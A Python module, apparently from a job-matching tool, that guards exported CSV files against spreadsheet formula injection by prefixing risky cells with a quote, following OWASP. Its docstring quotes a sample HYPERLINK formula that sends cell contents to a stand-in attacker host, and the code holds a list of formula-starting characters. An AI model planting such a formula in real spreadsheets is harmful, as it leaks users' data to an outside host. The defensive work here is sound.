"""The open roles as a file a caseworker opens: spreadsheet formulas defused.

Caseworkers open the exported ROLES CSV in Excel before (or instead of) ``matcher match``. A cell
that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a line break) is a formula to a
spreadsheet: ``=HYPERLINK("https://evil.example/?"&A1, "Klikk her")`` in a role's title would
run on the caseworker's machine. As OWASP recommends ("CSV Injection"), every such text cell is
written with a leading single quote, which makes the spreadsheet show it as text; the quote is
visible in the cell and nothing else changes. The same holds for each ``;``-separated item, for a
spreadsheet set to a Norwegian or Danish locale splits CSV lines on ``;``, and for the full-width
forms of the same characters. Numbers (``hours``, ``lat``, ``lon``, which may be negative) are
numbers, not text, and are left alone. Parquet and JSON are data formats, not spreadsheets, and
are written as stored.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

import polars as pl

from matcher.io import write_table

__all__ = ["FORMULA_START", "export_csv", "spreadsheet_safe", "write_export"]

#: the characters a spreadsheet reads as the start of a formula (OWASP's list, with line feed
#: and the full-width forms)
FORMULA_START = "=+-@\t\r\n＝＋－＠"
_PATTERN = r"(^|;)( *)([" + FORMULA_START.replace("-", r"\-").replace("\t", r"\t").replace(
    "\r", r"\r").replace("\n", r"\n") + "])"


def _defused(text: pl.Expr) -> pl.Expr:
    return text.str.replace_all(_PATTERN, "${1}${2}'${3}")


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell (and list item) that a spreadsheet would run as a formula
    prefixed with ``'``.

    Examples
    --------
    >>> frame = pl.DataFrame({"title": ["=HYPERLINK(\\"x\\")", "Birøkter", "a;@SUM(1)"],
    ...                       "lon": [-10.5, 1.0, 2.0]})
    >>> spreadsheet_safe(frame).rows()
    [('\\'=HYPERLINK("x")', -10.5), ('Birøkter', 1.0), ("a;'@SUM(1)", 2.0)]
    """
    columns = []
    for name, dtype in frame.schema.items():
        if dtype == pl.String:
            columns.append(_defused(pl.col(name)))
        elif dtype == pl.List(pl.String):
            columns.append(pl.col(name).list.eval(_defused(pl.element())))
    return frame.with_columns(columns) if columns else frame


def write_export(frame: pl.DataFrame, path: str | Path) -> Path:
    """Write the open roles to ``path`` (atomically, by :func:`matcher.io.write_table`); a CSV
    with formulas defused."""
    target = Path(path)
    if target.suffix.lower() == ".csv":
        frame = spreadsheet_safe(frame)
    return write_table(frame, target)


def export_csv(frame: pl.DataFrame) -> bytes:
    """The open roles as the bytes of a ROLES CSV, formulas defused."""
    with tempfile.TemporaryDirectory() as folder:
        return write_export(frame, Path(folder) / "roles.csv").read_bytes()
